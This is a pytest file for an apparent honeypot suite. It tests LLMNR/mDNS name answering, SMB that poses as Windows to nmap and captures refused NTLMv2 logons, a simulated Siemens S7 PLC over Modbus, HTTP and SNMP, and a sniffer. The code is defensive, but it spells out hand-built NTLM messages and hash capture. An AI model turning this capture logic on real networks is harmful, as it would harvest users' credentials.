def test_llmnr_answers_only_for_its_own_name(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("llmnr", udp=(5355, 5353), config={"address": "10.1.2.3"})
    own = udp_exchange(proc.port(5355), dns_query("SRV07", 1, ident=99))
    assert own is not None
    assert struct.unpack_from("!HHHH", own) == (99, 0x8000, 1, 1)
    assert own.endswith(bytes([10, 1, 2, 3]))
    assert udp_exchange(proc.port(5355), dns_query("wpad", 1), timeout=0.5) is None
    mdns = udp_exchange(proc.port(5353), dns_query("srv07.local", 1))
    assert mdns is not None
    assert mdns.endswith(bytes([10, 1, 2, 3]))
    proc.wait_event(lambda e: e.get("query") == "wpad" and e.get("protocol") == "llmnr")
    proc.wait_event(lambda e: e.get("query") == "srv07.local" and e.get("protocol") == "mdns")


# ---- SMB ------------------------------------------------------------------------------------------------------

NMAP_SMB_PROBE = (
    b"\0\0\0\xa4\xff\x53\x4d\x42\x72\0\0\0\0\x08\x01\x40\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x40\x06\0\0\x01\0\0\x81\0"
    b"\x02PC NETWORK PROGRAM 1.0\0\x02MICROSOFT NETWORKS 1.03\0\x02MICROSOFT NETWORKS 3.0\0\x02LANMAN1.0\0"
    b"\x02LM1.2X002\0\x02Samba\0\x02NT LANMAN 1.0\0\x02NT LM 0.12\0"
)
NMAP_WINDOWS_2012 = re.compile(
    rb"^\0\0\0.\xffSMBr\0\0\0\0\x88\x01@\0\0\0\0\0\0\0\0\0\0\0\0\0\0@\x06\0\0\x01\0\x11\x07\0.2\0\x01\0\x04A\0\0\0"
    rb"\0\x01\0\0\0\0\0\xfc\xf3\x01\0.{21}((?:..)*)\0\0((?:..)*)\0\0",
    re.DOTALL,
)


def smb2_request(command: int, message_id: int, body: bytes, session_id: int = 0) -> bytes:
    header = struct.pack(
        "<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 0, 0, command, 1, 0, 0, message_id, 0, 0, session_id, b"\0" * 16
    )
    payload = header + body
    return b"\0" + len(payload).to_bytes(3, "big") + payload


def smb_read(sock: socket.socket) -> bytes:
    length = int.from_bytes(recv_exact(sock, 4)[1:], "big")
    return recv_exact(sock, length)


def ntlm_authenticate(domain: str, user: str, workstation: str) -> bytes:
    nt = b"\x11" * 16 + b"\x01\x01" + b"\0" * 30
    fields = [
        b"\0" * 24,
        nt,
        domain.encode("utf-16-le"),
        user.encode("utf-16-le"),
        workstation.encode("utf-16-le"),
        b"",
    ]
    offset, headers, payload = 88, b"", b""
    for value in fields:
        headers += struct.pack("<HHI", len(value), len(value), offset + len(payload))
        payload += value
    return ntlm.SIGNATURE + struct.pack("<I", 3) + headers + struct.pack("<I", 0xE2888215) + b"\0" * 24 + payload


def test_smb1_negotiate_is_fingerprinted_as_windows(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("smb", tcp=(445, 139))
    with connect(proc.port(445)) as sock:
        sock.sendall(NMAP_SMB_PROBE)
        frame = smb_read(sock)
    match = NMAP_WINDOWS_2012.match(b"\0\0\0" + bytes([len(frame)]) + frame)
    assert match, frame
    assert match.group(1).decode("utf-16-le") == "CORP"
    assert match.group(2).decode("utf-16-le") == "SRV07"
    with connect(proc.port(139)) as sock:
        sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
        assert recv_exact(sock, 5) == b"\x83\x00\x00\x01\x8f"


def test_smb2_ntlm_logon_is_captured_and_refused(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("smb", tcp=(445, 139))
    with connect(proc.port(445)) as sock:
        dialects = (0x0202, 0x0210, 0x0300, 0x0302, 0x0311)
        negotiate = struct.pack("<HHHHI16sIHH", 36, len(dialects), 1, 0, 0x7F, b"c" * 16, 0, 0, 0)
        sock.sendall(smb2_request(0, 0, negotiate + struct.pack(f"<{len(dialects)}H", *dialects)))
        reply = smb_read(sock)
        assert reply[:4] == b"\xfeSMB"
        assert struct.unpack_from("<I", reply, 8)[0] == 0
        assert struct.unpack_from("<H", reply, 64 + 4)[0] == 0x0302
        blob_offset, blob_length = struct.unpack_from("<HH", reply, 64 + 56)
        blob = reply[blob_offset : blob_offset + blob_length]
        assert blob.startswith(b"\x60")
        assert bytes.fromhex("2b0601040182370202 0a".replace(" ", "")) in blob

        ntlm_negotiate = ntlm.SIGNATURE + struct.pack("<II", 1, 0xE2088297) + b"\0" * 16
        setup = struct.pack("<HBBIIHHQ", 25, 0, 1, 0, 0, 64 + 24, len(ntlm_negotiate), 0) + ntlm_negotiate
        sock.sendall(smb2_request(1, 1, setup))
        reply = smb_read(sock)
        assert struct.unpack_from("<I", reply, 8)[0] == 0xC0000016
        session_id = struct.unpack_from("<Q", reply, 40)[0]
        assert session_id
        challenge = ntlm.find_message(reply[64 + 8 :])
        assert challenge is not None
        assert ntlm.message_type(challenge) == 2
        assert "CORP".encode("utf-16-le") in challenge
        assert "srv07.corp.local".encode("utf-16-le") in challenge

        authenticate = ntlm_authenticate("CORP", "jdoe", "WS-0042")
        setup = struct.pack("<HBBIIHHQ", 25, 0, 1, 0, 0, 64 + 24, len(authenticate), 0) + authenticate
        sock.sendall(smb2_request(1, 2, setup, session_id))
        reply = smb_read(sock)
        assert struct.unpack_from("<I", reply, 8)[0] == 0xC000006D
    event = proc.wait_event(is_auth(username="jdoe", domain="CORP", workstation="WS-0042"))
    assert event["ntlm_version"] == "NTLMv2"
    assert event["ntlm_hash"].startswith("jdoe::CORP:")
    assert event["success"] is False


# ---- conpot (Modbus, HTTP, SNMP) -------------------------------------------------------------------------------


def test_conpot_modbus_http_and_snmp(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("conpot", tcp=(502, 80), udp=(161,))
    with connect(proc.port(502)) as sock:
        sock.sendall(struct.pack("!HHHBBHH", 1, 0, 6, 1, 3, 0, 4))
        header = recv_exact(sock, 9)
        assert struct.unpack("!HHHBBB", header) == (1, 0, 11, 1, 3, 8)
        assert struct.unpack("!4H", recv_exact(sock, 8)) == (215, 1013, 350, 1450)
        sock.sendall(struct.pack("!HHHBBHH", 2, 0, 6, 1, 6, 1, 9999))
        assert recv_exact(sock, 12) == struct.pack("!HHHBBHH", 2, 0, 6, 1, 6, 1, 9999)
        sock.sendall(struct.pack("!HHHBBBBB", 3, 0, 5, 1, 43, 14, 1, 0))
        identification = recv_until(sock, b"V4.4")
        assert b"Siemens AG" in identification
        sock.sendall(struct.pack("!HHHBB", 4, 0, 2, 1, 99))
        assert recv_exact(sock, 9) == struct.pack("!HHHBBB", 4, 0, 3, 1, 99 | 0x80, 1)
    with connect(proc.port(502)) as sock:
        sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
        assert re.match(rb"^GET [\0/]\x03H\xd4[\x01-\x03]", recv_until(sock, b"\xd4\x01"))
    proc.wait_event(lambda e: e.get("command") == "write single register" and e.get("value") == 9999)
    assert http(proc.port(80), b"GET / HTTP/1.0\r\n\r\n").endswith(b"Location: /Default.mwsl\r\n\r\n")
    page = http(proc.port(80), b"GET /Default.mwsl HTTP/1.0\r\n\r\n")
    assert b"SIMATIC S7-1200" in page
    login = http(
        proc.port(80),
        b"POST /FORMS/portal/login HTTP/1.0\r\nContent-Length: 27\r\n\r\nLogin=admin&Password=100%25",
    )
    assert b"Login failed" in login
    proc.wait_event(is_auth(mechanism="form", username="admin", password="100%"))
    get_sysdescr = bytes.fromhex("302602010104067075626c6963a019020101020100020100300e300c06082b060102010101000500")
    reply = udp_exchange(proc.port(161), get_sysdescr)
    assert reply is not None
    assert b"Siemens, SIMATIC S7" in reply
    assert udp_exchange(proc.port(161), get_sysdescr.replace(b"public", b"secret"), timeout=0.5) is None
    proc.wait_event(lambda e: e.get("protocol") == "snmp" and e.get("community") == "secret")


# ---- sniffer --------------------------------------------------------------------------------------------------


def test_sniffer_starts_and_stops(listener: Callable[..., ListenerProcess]) -> None:
    proc = listener("sniffer")
    startup = proc.wait_event(lambda e: e["event"] == "startup")
    assert startup["service"] == "sniffer"
    if os.geteuid() == 0:
        with socket.socket() as probe:
            probe.settimeout(1)
            port = random.randrange(40000, 50000)
            probe.connect_ex((HOST, port))
        event = proc.wait_event(lambda e: e["event"] == "connect" and e.get("dst_port") == port)
        assert event["dst_ip"] == HOST
